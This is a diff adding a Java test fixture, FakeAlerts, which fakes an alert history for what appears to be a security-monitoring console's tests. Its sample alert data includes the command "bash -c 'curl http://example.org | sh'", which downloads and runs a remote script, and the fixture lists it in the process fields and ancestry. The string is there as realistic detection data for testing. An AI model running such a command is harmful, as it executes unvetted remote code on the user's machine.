@@ -1,0 +1,64 @@
+package org.eyas.console.page;
+
+import java.time.Instant;
+import java.util.List;
+import java.util.Optional;
+import java.util.TreeMap;
+import java.util.TreeSet;
+import java.util.concurrent.CopyOnWriteArrayList;
+import java.util.function.Consumer;
+import org.eyas.api.alert.Alert;
+import org.eyas.api.alert.Priority;
+import org.eyas.api.control.AlertHistory;
+import org.eyas.api.control.PastAlert;
+import org.jspecify.annotations.Nullable;
+
+/** Alerts that a test raises. */
+final class FakeAlerts implements AlertHistory {
+  private final List<PastAlert> past = new CopyOnWriteArrayList<>();
+  private final List<Consumer<PastAlert>> followers = new CopyOnWriteArrayList<>();
+
+  void raise(Priority priority, String rule, String message, String... tags) {
+    TreeMap<String, @Nullable Object> fields = new TreeMap<>();
+    fields.put("proc.cmdline", "bash -c 'curl http://example.org | sh'");
+    fields.put("proc.pid", 4_711L);
+    fields.put("container.id", null);
+    long now = Instant.now().toEpochMilli() * 1_000_000;
+    Alert alert = new Alert(now, priority, rule, "syscall", message, fields, new TreeSet<>(List.of(tags)));
+    List<String> ancestors = List.of("4711 bash -c 'curl http://example.org | sh'", "4710 sshd: root@pts/0", "812 sshd", "1 systemd");
+    String explanation = "spawned_process and proc.name = bash\n  true   spawned_process\n  true   proc.name = bash";
+    PastAlert fresh = new PastAlert(past.size() + 1, alert, ancestors, explanation);
+    past.addFirst(fresh);
+    followers.forEach(follower -> follower.accept(fresh));
+  }
+
+  int followers() {
+    return followers.size();
+  }
+
+  @Override
+  public List<PastAlert> recent(int most) {
+    return past.stream().limit(most).toList();
+  }
+
+  @Override
+  public Optional<PastAlert> find(long number) {
+    return past.stream().filter(alert -> alert.number() == number).findFirst();
+  }
+
+  @Override
+  public Following follow(Consumer<PastAlert> listener) {
+    followers.add(listener);
+    return new Following() {
+      @Override
+      public long missed() {
+        return 0;
+      }
+
+      @Override
+      public void close() {
+        followers.remove(listener);
+      }
+    };
+  }
+}
